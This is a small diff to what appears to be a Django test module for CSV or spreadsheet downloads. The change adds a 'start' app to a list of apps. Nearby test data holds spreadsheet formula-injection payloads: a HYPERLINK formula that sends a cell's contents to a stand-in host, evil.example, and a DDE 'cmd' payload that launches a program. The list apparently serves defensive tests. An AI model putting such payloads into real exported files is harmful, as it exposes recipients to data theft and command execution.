@@ -27,7 +27,7 @@ from pilots.tests.factories import (
 )
 
 ROOT = Path(settings.BASE_DIR)
-APPS = ("candidates", "core", "employers", "pilots", "reports")
+APPS = ("candidates", "core", "employers", "pilots", "reports", "start")
 INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1)", "\t=1"]
 
 # Where the code makes a download, and the URL that tests it (or why none needs to).
